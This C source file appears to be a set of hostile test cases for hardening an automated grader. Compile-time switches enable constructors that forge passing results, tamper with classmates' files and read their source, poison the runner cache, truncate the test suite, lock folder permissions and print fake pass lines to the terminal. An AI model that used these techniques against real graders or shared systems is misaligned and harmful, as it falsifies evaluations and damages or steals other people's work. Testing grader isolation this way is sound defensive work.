/* Attacks on the grader, appended to a list that fails some case: a constructor that runs in the
 * runner's process before its main() tries one attack switched on at compile time with
 * HOSTILE_<name>. The places it aims at are the grading machine's own, known to the attacker as
 * a classmate would know them, and given here as macros: CLASS_DIR (the class's folder),
 * CACHE_DIR (check-list's cache), SUITE_DIR (the prebuilt suite) and WORK_DIR (where the grader
 * keeps the checks' working folders). Every attack is quiet when it fails. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

/* Calls visit(path) for every entry directly under folder. */
__attribute__((unused)) static void eachEntry(const char* folder,
                                             void (*visit)(const char* path)) {
    DIR* entries = opendir(folder);
    if (entries == NULL) {
        return;
    }
    struct dirent* entry;
    while ((entry = readdir(entries)) != NULL) {
        if (entry->d_name[0] == '.') {
            continue;
        }
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", folder, entry->d_name);
        visit(path);
    }
    closedir(entries);
}

#ifdef HOSTILE_forger
/* Every case passed, as the results file says it, on standard output and in the --json file the
 * runner was asked for; then out before the runner's main() checks anything. */
static void forge(void) {
    char arguments[8192] = {0};
    int file = open("/proc/self/cmdline", O_RDONLY);
    ssize_t length = file < 0 ? -1 : read(file, arguments, sizeof arguments - 1);
    const char* json = NULL;
    for (ssize_t at = 0; at < length; at += (ssize_t)strlen(arguments + at) + 1) {
        if (strcmp(arguments + at, "--json") == 0 && at + 7 < length) {
            json = arguments + at + 7;
        }
    }
    const char* results = "{\"tests\":[{\"name\":\"appendProbeCase01\",\"status\":\"passed\","
                          "\"score\":1,\"max_score\":1,\"output\":\"\"}],\"score\":1}\n";
    FILE* out = json != NULL ? fopen(json, "w") : NULL;
    if (out != NULL) {
        fputs(results, out);
        fclose(out);
    }
    for (int fd = 1; fd < 10; fd++) {
        dprintf(fd, "%s", results);
        dprintf(fd, "{\"case\":\"appendProbeCase01\",\"ending\":\"passed\",\"checks\":0,"
                    "\"digest\":\"0\",\"seconds\":0,\"failure\":\"\",\"output\":\"\"}\n");
        dprintf(fd, "33 passed, 0 failed\n");
    }
    _exit(0);
}
#endif

#ifdef HOSTILE_neighbourWriter
static void spoil(const char* folder) {
    char path[4200];
    snprintf(path, sizeof path, "%s/list.c", folder);
    FILE* file = fopen(path, "a");
    if (file != NULL) {
        fputs("\n#error spoiled by a classmate\n", file);
        fclose(file);
    }
}
#endif

#ifdef HOSTILE_neighbourReader
/* Prints a classmate's source, so that it lands in this list's report. */
static void show(const char* folder) {
    char path[4200];
    snprintf(path, sizeof path, "%s/list.c", folder);
    FILE* file = fopen(path, "r");
    if (file == NULL) {
        return;
    }
    char line[512];
    while (fgets(line, sizeof line, file) != NULL) {
        fputs(line, stdout);
        fputs(line, stderr);
    }
    fclose(file);
}
#endif

#ifdef HOSTILE_cachePoisoner
/* Replaces every runner in the cache by a script that fails. */
static void poison(const char* entry) {
    char path[4200];
    snprintf(path, sizeof path, "%s/probeRunner", entry);
    FILE* file = fopen(path, "w");
    if (file != NULL) {
        fputs("#!/bin/sh\nexit 1\n", file);
        fclose(file);
        chmod(path, 0755);
    }
}
static void poisonCache(const char* folder) {
    eachEntry(folder, poison);
}
#endif

#ifdef HOSTILE_suiteTamperer
static void truncateFile(const char* path) {
    (void)truncate(path, 0);
}
#endif

#ifdef HOSTILE_permissionSaboteur
/* Takes the write permission from every folder under path. */
static void freeze(const char* path) {
    struct stat status;
    if (lstat(path, &status) == 0 && S_ISDIR(status.st_mode)) {
        eachEntry(path, freeze);
        chmod(path, 0555);
    }
}
#endif

__attribute__((constructor)) static void attack(void) {
#ifdef HOSTILE_forger
    forge();
#endif
#ifdef HOSTILE_neighbourWriter
    eachEntry(CLASS_DIR, spoil);
#endif
#ifdef HOSTILE_neighbourReader
    eachEntry(CLASS_DIR, show);
#endif
#ifdef HOSTILE_cachePoisoner
    eachEntry(CACHE_DIR, poisonCache);
#endif
#ifdef HOSTILE_suiteTamperer
    eachEntry(SUITE_DIR, truncateFile);
#endif
#ifdef HOSTILE_permissionSaboteur
    eachEntry(WORK_DIR, freeze);
#endif
#ifdef HOSTILE_terminalWriter
    int terminal = open("/dev/tty", O_WRONLY);
    if (terminal >= 0) {
        dprintf(terminal, "\r\n[1/1] mallory: passed, 33 of 33 cases passed\r\n");
        close(terminal);
    }
#endif
}
